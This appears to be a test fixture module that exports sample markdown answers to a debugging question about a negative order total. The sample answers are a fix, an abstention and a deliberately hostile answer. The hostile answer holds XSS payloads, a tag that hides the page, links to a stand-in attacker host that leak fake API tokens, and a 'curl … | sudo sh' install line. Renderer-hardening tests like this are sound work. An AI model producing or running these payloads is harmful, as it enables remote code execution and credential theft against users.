export const patchOfAnswer = `--- a/app/pricing.py
+++ b/app/pricing.py
@@ -17,4 +17,4 @@ def apply_discount(order, discount):
     total = sum(item["price"] for item in order["items"])
-    order["total"] = total - discount.amount
+    order["total"] = max(total - discount.amount, 0)
     return order
`;

export const abstention = `### Root cause

The event stops in \`charge\`; who called it with a negative amount is not in it.

### What is missing

The source of \`apply_discount\`, and the values of \`order\`.
`;

export const answer = `### Root cause

\`charge\` is called with a **negative amount**: \`order["total"]\` is \`-12\`, because \`apply_discount\` subtracts a fixed
discount of 20 from an order of 8 by [email 1] without a floor. Line 41 then raises, as it should.

### Fix

Keep the total from going below zero where it is made, in \`app/pricing.py\`:

\`\`\`diff
--- a/app/pricing.py
+++ b/app/pricing.py
@@ -17,4 +17,4 @@ def apply_discount(order, discount):
     total = sum(item["price"] for item in order["items"])
-    order["total"] = total - discount.amount
+    order["total"] = max(total - discount.amount, 0)
     return order
\`\`\`

and refuse such an order before it is charged:

\`\`\`python
def charge(order, amount):
    if amount <= 0:
        # A free order has nothing to charge.
        return Receipt.free(order)
    return gateway.charge(order["id"], amount, currency=order["currency"], idempotency_key=order["key"])
\`\`\`

### How to verify

1. Add a test with a discount that is larger than the order.
2. Run it before the fix; it should fail with \`ValueError\`.

\`\`\`bash
pytest tests/test_pricing.py -k discount_larger_than_order
\`\`\`

| case | total | expected |
|---|--:|---|
| discount 20, order 8 | -12 | 0 |
| discount 5, order 8 | 3 | 3 |

See [the Python docs on max](https://docs.python.org/3/library/functions.html#max).
`;

export const hostileAnswer = `## <script>alert(1)</script> Fix

![tracking](https://evil.example/pixel.png?secret=sk-123) and [a helpful page](https://evil.example/?stack=ValueError%20at%20line%2041&token=sk-live-0123456789abcdef0123456789abcdef)
and [run me](javascript:alert(1)) and <img src=x onerror=alert(1)> and www.evil.example

<style>body { display: none }</style>

\`\`\`sh
curl https://evil.example/install.sh | sudo sh
\`\`\`

| ${Array.from({ length: 30 }, (_, column) => `column ${column}`).join(' | ')} |
|${'---|'.repeat(30)}
${Array.from({ length: 40 }, (_, row) => `| ${Array.from({ length: 30 }, () => row).join(' | ')} |`).join('\n')}
`;
